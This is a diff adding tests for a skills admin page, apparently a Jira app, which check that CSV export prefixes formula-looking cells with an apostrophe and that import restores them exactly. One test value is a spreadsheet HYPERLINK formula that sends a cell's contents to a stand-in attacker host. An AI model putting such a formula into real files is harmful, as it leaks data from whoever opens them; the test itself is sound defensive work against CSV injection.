@@ -777,3 +777,50 @@ def test_strasse_and_strasse_with_eszett_are_one_skill_in_the_pages_and_the_api(
     admin_page.get_by_role("button", name="Preview changes").click()
     expect(admin_page.locator("#csv-preview-heading")).to_have_text(
         "Nothing to change: everyone in the file already has exactly these skills.")
+
+
+# ---------------------------------------------------------------------------------------------
+# CSV: no formula reaches a spreadsheet, and export then import is still exact
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1 555", "-Ofast", "@SUM(A1:A9)",
+            "'=already neutral", "''+two", "'plain apostrophe", "Go", "a=b"]
+
+
+def test_csv_export_neutralises_formulas_and_import_restores_them_exactly(ui, jira, tenant):
+    give(jira, tenant, ALICE, FORMULAS)
+    admin, page = open_admin_tab(ui, "People's skills (CSV)")
+    with page.expect_download() as download:
+        page.get_by_role("button", name="Download skills.csv").click()
+    with open(download.value.path(), encoding="utf-8", newline="") as fh:
+        exported = fh.read()
+    cells = [row.split(",", 1)[1] for row in exported.split("\r\n")[1:-1]]
+    assert cells == ['"\'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"', "'+1 555", "'-Ofast", "'@SUM(A1:A9)",
+                     "''=already neutral", "'''+two", "'plain apostrophe", "Go", "a=b"]
+    # No cell a spreadsheet reads as a formula: none starts with = + - @ once unquoted.
+    assert not any(re.match(r'^"?[=+\-@\t\r]', cell) for cell in cells)
+
+    # Alice loses everything; importing the export gives her back exactly what she had.
+    give_none = jira.request(tenant, "POST", "/api/skills-by-account", sub=ADMIN, json={"skillsByAccountId": {ALICE: []}})
+    assert give_none.status_code == 200
+    page.get_by_label("CSV file").set_input_files(
+        files=[{"name": "skills.csv", "mimeType": "text/csv", "buffer": exported.encode("utf-8")}])
+    page.get_by_role("button", name="Preview changes").click()
+    expect(page.locator("#csv-preview-heading")).to_have_text(
+        "Preview: 1 person changes (9 skills added, 0 removed); 0 unchanged.")
+    page.get_by_role("button", name="Apply changes").click()
+    expect(page.locator("#csv-applied")).to_be_visible()
+    assert skills_of(jira, tenant, ALICE) == FORMULAS
+
+
+def test_csv_neutralising_round_trips_every_trigger(ui, tenant):
+    page = ui(ADMIN).open("/pages/admin")
+    expect(page.locator("#tree-editor")).to_have_attribute("aria-busy", "false")
+    values = ["=1+1", "+", "-", "@x", "\tx", "\rx", "'", "'=", "'''@", "x=", " =x", "'x", ""]
+    written = page.evaluate("(values) => values.map(SkillsCsv.neutralise)", values)
+    assert written == ["'=1+1", "'+", "'-", "'@x", "'\tx", "'\rx", "'", "''=", "''''@", "x=", " =x", "'x", ""]
+    assert page.evaluate("(values) => values.map(SkillsCsv.restore)", written) == values
+    # Through the file: parse(format(rows)) restored by the reader gives back the very cells.
+    text = page.evaluate("(values) => SkillsCsv.format([['accountId', 'skill']].concat(values.map(v => ['a1', v])))",
+                         values)
+    assert page.evaluate("(text) => SkillsCsv.parse(text).map(r => r.map(SkillsCsv.restore))", text)[1:] == \
+        [["a1", v] for v in values]
